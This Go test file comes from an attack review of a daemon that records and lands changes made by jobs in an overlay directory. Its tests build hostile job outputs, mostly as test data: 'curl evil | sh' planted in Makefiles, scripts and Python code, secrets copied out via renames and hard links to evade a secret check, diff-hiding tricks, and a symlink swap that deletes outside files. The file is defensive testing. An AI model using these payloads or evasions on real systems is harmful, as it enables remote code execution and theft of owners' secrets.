package changes

// Attacks on the overlay record, from an attack review: each test builds
// the upper dir a malicious job could leave and fails when the attack
// works (each failed before its fix).

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

func statusOf(t *testing.T, rep Report, p string) Change {
	t.Helper()
	c, ok := byPath(rep)[p]
	if !ok {
		t.Fatalf("%s not in the record: %+v", p, rep.Changes)
	}
	return c
}

// A repository whose hooks live in core.hooksPath (a plain folder, not a
// dot one): the job edits an existing hook in place, keeping its exec bit.
// hookPaths asks `git config --get core.hooksPath`, but every git the daemon
// runs carries `-c core.hooksPath=/dev/null` (gitArgs), so git answers
// "/dev/null" and the repository's hooksPath is never seen.
func TestAttackHooksPathIsHiddenByGitArgs(t *testing.T) {
	ws := t.TempDir()
	gitIn(t, ws, "init", "-q")
	gitIn(t, ws, "config", "core.hooksPath", "githooks")
	write(t, ws, "githooks/pre-commit", "#!/bin/sh\nexit 0\n")
	if err := os.Chmod(filepath.Join(ws, "githooks/pre-commit"), 0o755); err != nil {
		t.Fatal(err)
	}
	gitIn(t, ws, "add", "-A")
	gitIn(t, ws, "commit", "-qm", "start")
	if hp := rdHooks(t, ws); len(hp) != 0 {
		t.Logf("hookPaths: %v", hp)
	}
	j := newOverlayJob(t, ws, LandAuto)
	j.write("githooks/pre-commit", "#!/bin/sh\ntouch /tmp/pwned\n", 0o755)
	rep := j.end(true)
	c := statusOf(t, rep, "githooks/pre-commit")
	if c.Held == "" {
		s, _ := readWS(t, ws, "githooks/pre-commit")
		t.Errorf("ATTACK WORKS: the core.hooksPath hook %s (held %q); workspace now: %q", c.Status, c.Held, s)
	}
}

func rdHooks(t *testing.T, ws string) []string {
	lower, err := openReader(ws, t.TempDir(), OverlayStart{})
	if err != nil {
		return nil
	}
	defer lower.close()
	return lower.hookPaths(testGit)
}

// Same hook, in a linked worktree: .git is a gitfile, so hookPaths reads
// neither .git/hooks nor core.hooksPath (it only asks when .git is a dir).
func TestAttackHooksInALinkedWorktree(t *testing.T) {
	main := t.TempDir()
	gitIn(t, main, "init", "-q")
	write(t, main, "scripts/pre-commit.sh", "#!/bin/sh\nexit 0\n")
	if err := os.Chmod(filepath.Join(main, "scripts/pre-commit.sh"), 0o755); err != nil {
		t.Fatal(err)
	}
	gitIn(t, main, "add", "-A")
	gitIn(t, main, "commit", "-qm", "start")
	ws := filepath.Join(t.TempDir(), "wt")
	gitIn(t, main, "worktree", "add", "-q", ws)
	// Hooks from the worktree's own checkout (relative hooksPath: relative to the worktree's top).
	gitIn(t, ws, "config", "core.hooksPath", "scripts")
	j := newOverlayJob(t, ws, LandAuto)
	j.write("scripts/pre-commit.sh", "#!/bin/sh\ntouch /tmp/pwned\n", 0o755)
	rep := j.end(true)
	if c := statusOf(t, rep, "scripts/pre-commit.sh"); c.Held == "" {
		t.Errorf("ATTACK WORKS: a hook of a linked worktree %s unheld", c.Status)
	}
}

// A visible file over MaxDiffFile (1 MiB) lands with no diff at all: the
// record says "no diff: ..." but holds nothing back. Same for a modest edit
// of an existing file over 1 MiB (a generated bundle, an amalgamation, a
// lockfile).
func TestAttackLargeTextLandsWithoutADiff(t *testing.T) {
	ws := t.TempDir()
	big := strings.Repeat("# padding line of an ordinary generated file\n", 30000) // ~1.3 MiB
	write(t, ws, "gen/big.py", big+"X = 1\n")
	j := newOverlayJob(t, ws, LandAuto)
	j.write("Makefile", big+"test:\n\tcurl evil | sh\n", 0o644)
	j.write("gen/big.py", big+"import os; os.system('curl evil | sh')\n", 0o644)
	rep := j.end(true)
	for _, p := range []string{"Makefile", "gen/big.py"} {
		c := statusOf(t, rep, p)
		if c.Status == StatusLanded && !strings.Contains(rep.Diff, "curl evil") {
			t.Errorf("ATTACK WORKS: %s %s with no diff (note %q)", p, c.Status, c.Note)
		}
	}
}

// The workspace keeps a symlink (Makefile -> build/Makefile.linux, a
// common layout); the job replaces it with a regular file. The earlier
// contents cannot be read (Tree.Open refuses a link), so diff() returns ""
// and the new file lands unshown.
func TestAttackFileOverAWorkspaceLinkLandsWithoutADiff(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, "build/Makefile.linux", "test:\n\techo ok\n")
	if err := os.Symlink("build/Makefile.linux", filepath.Join(ws, "Makefile")); err != nil {
		t.Fatal(err)
	}
	j := newOverlayJob(t, ws, LandAuto)
	j.write("Makefile", "test:\n\tcurl evil | sh\n", 0o644)
	rep := j.end(true)
	c := statusOf(t, rep, "Makefile")
	s, _ := readWS(t, ws, "Makefile")
	if c.Status == StatusLanded && !strings.Contains(rep.Diff, "curl evil") {
		t.Errorf("ATTACK WORKS: Makefile %s, not in the diff (note %q); workspace now %q", c.Status, c.Note, s)
	}
}

// One text file just under MaxDiffFile and N hard links to it (free on
// disk; link(2) through the overlay makes them in the upper dir): every
// link is its own change with its own full diff; the overlay's diff has no
// total cap (MaxDiffTotal is not applied), so memory grows with N.
func TestAttackHardLinksInflateTheDiff(t *testing.T) {
	ws := t.TempDir()
	j := newOverlayJob(t, ws, LandReview)
	line := "a line of text that is read in a diff\n"
	j.write("src/f.txt", strings.Repeat(line, (MaxDiffFile-1)/len(line)), 0o644)
	const n = 100
	for i := range n {
		if err := os.Link(filepath.Join(j.upper, "src/f.txt"), filepath.Join(j.upper, fmt.Sprintf("src/l%03d.txt", i))); err != nil {
			t.Fatal(err)
		}
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	start := time.Now()
	rep := j.end(true)
	runtime.ReadMemStats(&after)
	t.Logf("%d links: diff %d MiB, %.1fs, %d MiB allocated", n, len(rep.Diff)>>20, time.Since(start).Seconds(), (after.TotalAlloc-before.TotalAlloc)>>20)
	if len(rep.Diff) > MaxDiffTotal {
		t.Errorf("ATTACK WORKS: the diff is %d MiB (> MaxDiffTotal %d MiB) from one file's bytes on disk; 100,000 links would be ~100 GiB in memory", len(rep.Diff)>>20, MaxDiffTotal>>20)
	}
}

// A path in the upper dir longer than PATH_MAX: walkUpper opens full paths
// (os.ReadDir, unix.Lstat), fails with ENAMETOOLONG, and the whole end of
// the job fails: no record, nothing lands, nothing listed.
func TestAttackDeepPathFailsTheRecord(t *testing.T) {
	ws := t.TempDir()
	j := newOverlayJob(t, ws, LandAuto)
	j.write("src/ok.go", "package src\n", 0o644)
	fd, err := unix.Open(j.upper, unix.O_DIRECTORY|unix.O_RDONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	name := strings.Repeat("d", 200)
	for range 25 { // 25 * 201 > 4096
		if err := unix.Mkdirat(fd, name, 0o755); err != nil {
			t.Fatal(err)
		}
		nfd, err := unix.Openat(fd, name, unix.O_DIRECTORY|unix.O_RDONLY, 0)
		unix.Close(fd)
		if err != nil {
			t.Fatal(err)
		}
		fd = nfd
	}
	unix.Close(fd)
	_, err = FromOverlay(t.Context(), ws, j.dir, testGit, true)
	if err != nil {
		_, landed := readWS(t, ws, "src/ok.go")
		t.Errorf("ATTACK WORKS: FromOverlay: %v (record written: %v, visible change landed: %v)", err, j.recordExists(), landed)
	}
}

func (j *overlayJob) recordExists() bool {
	_, err := os.Stat(filepath.Join(j.dir, OverlayRecordFile))
	return err == nil
}

// A dir the job made and chmodded 000 (run as a non-root daemon: root reads
// it anyway): walkUpper's ReadDir fails and so does the whole record.
func TestAttackUnreadableDirFailsTheRecord(t *testing.T) {
	if os.Getuid() == 0 {
		t.Skip("root reads a 000 dir: run as an unprivileged user")
	}
	ws := t.TempDir()
	j := newOverlayJob(t, ws, LandAuto)
	j.write("src/ok.go", "package src\n", 0o644)
	j.write("locked/x.txt", "x\n", 0o644)
	if err := os.Chmod(filepath.Join(j.upper, "locked"), 0); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Chmod(filepath.Join(j.upper, "locked"), 0o755) })
	_, err := FromOverlay(t.Context(), ws, j.dir, testGit, true)
	if err != nil {
		_, landed := readWS(t, ws, "src/ok.go")
		t.Errorf("ATTACK WORKS: FromOverlay: %v (record written: %v, visible change landed: %v)", err, j.recordExists(), landed)
	}
}

// An unreadable file (mode 000 in the upper dir, non-root daemon): head()
// reads nothing, and readable(nil) is true, so it is visible, with no diff.
func TestAttackUnreadableFileIsVisibleWithNoDiff(t *testing.T) {
	if os.Getuid() == 0 {
		t.Skip("root reads a 000 file: run as an unprivileged user")
	}
	ws := t.TempDir()
	j := newOverlayJob(t, ws, LandReview)
	j.write("run.sh", "curl evil | sh\n", 0)
	rep := j.end(true)
	c := statusOf(t, rep, "run.sh")
	t.Logf("run.sh: %s held %q binary %v note %q", c.Status, c.Held, c.Binary, c.Note)
	if c.Held == "" && !strings.Contains(rep.Diff, "curl evil") {
		t.Errorf("ATTACK WORKS (partly): an unread file is visible (%s) with no diff; land fails only because the daemon cannot open it", c.Status)
	}
}

// The upper dir of a job that appended to the owner's .env (overlayfs
// copies the whole file up first) or renamed it (copy-up, then rename):
// the diff shows the owner's secret.
func TestAttackSecretCopiedUpIsShown(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, ".env", "OWNER_SECRET=hunter2\n")
	write(t, ws, "config/prod.env", "DB_PASSWORD=swordfish\n")
	j := newOverlayJob(t, ws, LandReview)
	j.write(".env", "OWNER_SECRET=hunter2\nJOB=1\n", 0o644) // echo JOB=1 >> .env
	j.write("notes.txt", "DB_PASSWORD=swordfish\n", 0o644)  // mv config/prod.env notes.txt
	j.whiteout("config/prod.env")
	rep := j.end(true)
	for _, s := range []string{"hunter2", "swordfish"} {
		if strings.Contains(rep.Diff, s) {
			t.Errorf("ATTACK WORKS: the diff shows the owner's secret %q", s)
		}
	}
	t.Logf("notes.txt: %+v", statusOf(t, rep, "notes.txt"))
}

// A workspace that is a folder of a repository (not its top): git's
// ignore rules are never asked (git.ignored wants ws/.git), so a file the
// repository ignores, which `git status` in it never shows, lands.
func TestAttackIgnoredInASubfolderWorkspace(t *testing.T) {
	repo := t.TempDir()
	gitIn(t, repo, "init", "-q")
	write(t, repo, ".gitignore", "app/local.mk\n")
	write(t, repo, "app/Makefile", "-include local.mk\nall:\n")
	gitIn(t, repo, "add", "-A")
	gitIn(t, repo, "commit", "-qm", "start")
	ws := filepath.Join(repo, "app")
	j := newOverlayJob(t, ws, LandAuto)
	j.write("local.mk", "all:\n\tcurl evil | sh\n", 0o644)
	rep := j.end(true)
	c := statusOf(t, rep, "local.mk")
	out, _ := exec.Command("git", "-C", repo, "status", "--porcelain").CombinedOutput()
	if c.Held == "" {
		t.Errorf("ATTACK WORKS (low): a file the repository ignores %s; the owner's git status shows: %q", c.Status, out)
	}
}

// A top-level name with pathspec magic (":!x") makes `git check-ignore`
// die, and then every visible change of the job is held "(git could not be
// asked)": a job can force-hold all its work (fail-closed, but it turns
// land: auto into a review of everything and hides nothing).
func TestAttackPathspecMagicNameHoldsEverything(t *testing.T) {
	ws := t.TempDir()
	gitIn(t, ws, "init", "-q")
	write(t, ws, "a.go", "package a\n")
	j := newOverlayJob(t, ws, LandAuto)
	j.write("a.go", "package a // edit\n", 0o644)
	j.write(":!x", "hi\n", 0o644)
	rep := j.end(true)
	if c := statusOf(t, rep, "a.go"); c.Held != "" {
		t.Errorf("a name makes git fail: a.go held %q", c.Held)
	}
}

// Files that editors and builds run on their own, by the families
// holdReason names (a build script IDEs run on opening the folder; a hook
// manager's local config), that toolConfig does not know.
func TestAttackToolConfigFamiliesMissed(t *testing.T) {
	ws := t.TempDir()
	j := newOverlayJob(t, ws, LandReview)
	for _, p := range []string{
		"build.gradle", "build.gradle.kts", "settings.gradle", "settings.gradle.kts", // Gradle import on open runs them
		"CMakeLists.txt", "CMakePresets.json", // CMake Tools configures on open
		"app.csproj", "Build.targets", // MSBuild design-time build on open
		"lefthook-local.yml", "lefthook.toml", "lefthook.json", // lefthook merges them at every hook
		"webpack.config.babel.js", "vitest.workspace.ts", // loaded like *.config.js
	} {
		j.write(p, "x\n", 0o644)
	}
	rep := j.end(true)
	var missed []string
	for _, c := range rep.Changes {
		if c.Held == "" {
			missed = append(missed, c.Path)
		}
	}
	if len(missed) > 0 {
		t.Errorf("not held: %v", missed)
	}
}

// A directory mode change (say 0755 -> 0777) is visible and reported
// "landed", but land() only MkdirAll's an existing dir: the mode never
// changes. The record misreports.
func TestAttackDirModeChangeReportedLandedNotApplied(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, "d/a.txt", "a\n")
	if err := os.Chmod(filepath.Join(ws, "d"), 0o755); err != nil {
		t.Fatal(err)
	}
	j := newOverlayJob(t, ws, LandAuto)
	if err := os.MkdirAll(filepath.Join(j.upper, "d"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(filepath.Join(j.upper, "d"), 0o700); err != nil {
		t.Fatal(err)
	}
	rep := j.end(true)
	c := statusOf(t, rep, "d")
	fi, _ := os.Stat(filepath.Join(ws, "d"))
	if c.Status == StatusLanded && fi.Mode().Perm() != 0o700 {
		t.Errorf("MISREPORT: d %s (%s) but its mode is %v", c.Status, c.Note, fi.Mode().Perm())
	}
}

// PREMISE NOT REPRODUCED for a real job: something still writes the upper
// dir after the record (a job process that outlived the job's end). Then
// Discard's os.Remove(upper + "/" + path) follows a parent the writer
// swapped for a link (through the merged view a link's target is any
// absolute path, which the daemon resolves in its own namespace).
func TestAttackDiscardFollowsASwappedParentInUpper(t *testing.T) {
	ws := t.TempDir()
	outside := t.TempDir()
	write(t, outside, ".victim", "the owner's file\n")
	j := newOverlayJob(t, ws, LandAuto)
	j.write("k/.victim", "held\n", 0o644)
	j.end(true)
	if err := os.RemoveAll(filepath.Join(j.upper, "k")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(j.upper, "k")); err != nil {
		t.Fatal(err)
	}
	if _, err := Discard(ws, j.dir, nil); err != nil {
		t.Fatal(err)
	}
	if _, ok := readWS(t, outside, ".victim"); !ok {
		t.Error("ATTACK WORKS (given a late writer): Discard removed a file outside the upper dir")
	}
}

// How many plain paths `git check-ignore --stdin` takes from the daemon
// before it fails (and every visible change is held).
func TestAttackCheckIgnoreManyPaths(t *testing.T) {
	ws := t.TempDir()
	gitIn(t, ws, "init", "-q")
	for _, n := range []int{10, 1000, 4000, 8000, 20000} {
		var ps []string
		for i := range n {
			ps = append(ps, fmt.Sprintf("d%02d/f%05d.txt", i%50, i))
		}
		if _, err := testGit.ignored(ws, ps); err != nil {
			t.Errorf("%d paths: git could not be asked (every visible change would be held): %v", n, err)
		}
	}
}

func TestAttackCheckIgnoreFromRecord(t *testing.T) {
	for _, n := range []int{5000, 10000} {
		ws := t.TempDir()
		gitIn(t, ws, "init", "-q")
		j := newOverlayJob(t, ws, LandReview)
		for i := range n {
			j.write(fmt.Sprintf("d%02d/f%05d.txt", i%50, i), "x\n", 0o644)
		}
		if rep := j.end(true); rep.Held != 0 {
			t.Errorf("%d ordinary files: %d held (%q)", n, rep.Held, rep.Changes[0].Held)
		}
	}
}

// Evasions of the secret-sum check (diff: secretSums): the job renames the
// owner's .env and appends one byte (mv + >>, no read needed), or hard
// links it (ln: overlayfs copies .env up unchanged, so .env is no change
// and its sum is never taken).
func TestAttackSecretSumEvaded(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, ".env", "OWNER_SECRET=hunter2\n")
	write(t, ws, "config/prod.env", "DB_PASSWORD=swordfish\n")
	j := newOverlayJob(t, ws, LandReview)
	j.write("notes.txt", "DB_PASSWORD=swordfish\n\n", 0o644) // mv config/prod.env notes.txt; echo >> notes.txt
	j.whiteout("config/prod.env")
	j.write(".env", "OWNER_SECRET=hunter2\n", 0o644) // ln .env linked.txt: .env copied up as it was
	if err := os.Link(filepath.Join(j.upper, ".env"), filepath.Join(j.upper, "linked.txt")); err != nil {
		t.Fatal(err)
	}
	rep := j.end(true)
	for _, s := range []string{"hunter2", "swordfish"} {
		if strings.Contains(rep.Diff, s) {
			t.Errorf("ATTACK WORKS: the diff shows the owner's secret %q", s)
		}
	}
	for _, p := range []string{"notes.txt", "linked.txt"} {
		if c := statusOf(t, rep, p); !c.Secret || c.Held == "" {
			t.Errorf("%s holds a secret file's lines but is %s (secret %v, held %q)", p, c.Status, c.Secret, c.Held)
		}
	}
}

// An executable binary of the workspace (a prebuilt tool, mode 0755)
// replaced by a text script with the same mode: no new exec bit, the new
// head is text, and the diff, seeing binary earlier contents, says only
// "Binary files differ": the script lands unshown.
func TestAttackBinaryToScriptLandsUnshown(t *testing.T) {
	ws := t.TempDir()
	write(t, ws, "bin/tool", "\x7fELF\x02\x01\x01\x00\x00\x00binary")
	if err := os.Chmod(filepath.Join(ws, "bin/tool"), 0o755); err != nil {
		t.Fatal(err)
	}
	j := newOverlayJob(t, ws, LandAuto)
	j.write("bin/tool", "#!/bin/sh\ncurl evil | sh\n", 0o755)
	rep := j.end(true)
	c := statusOf(t, rep, "bin/tool")
	if c.Status == StatusLanded && !strings.Contains(rep.Diff, "curl evil") {
		t.Errorf("ATTACK WORKS: bin/tool %s, diff shows no content (binary=%v note %q)", c.Status, c.Binary, c.Note)
	}
}
